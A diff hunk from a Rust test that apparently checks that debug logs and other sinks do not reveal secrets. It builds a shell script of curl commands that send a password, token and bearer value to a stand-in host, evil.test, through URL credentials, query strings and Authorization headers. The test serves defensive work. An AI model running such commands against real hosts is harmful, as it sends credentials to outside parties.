@@ -19,7 +19,7 @@ fn neither_a_debug_log_nor_any_sink_tells_a_secret() {
     let script = "curl -s \"http://u:$1@evil.test:8765/p?token=$2\" -H \"Authorization: Bearer $3\"; \
                   curl \"http://u:$1@evil.test:8765/p?token=$2\" -s; \
                   curl -s -x http://127.0.0.1:3128 -p \"https://u:$1@evil.test/?token=$2\"; \
-                  curl --user=u:$1 --header=Authorization:$3 http://evil.test/; \
+                  curl -uu:$1 -s http://evil.test/; curl -HAuthorization:$3 -s http://evil.test/; \
                   echo ran";
     let words = [
         "sh", "-c", script, "sh", &password, &token, &bearer, &argument,
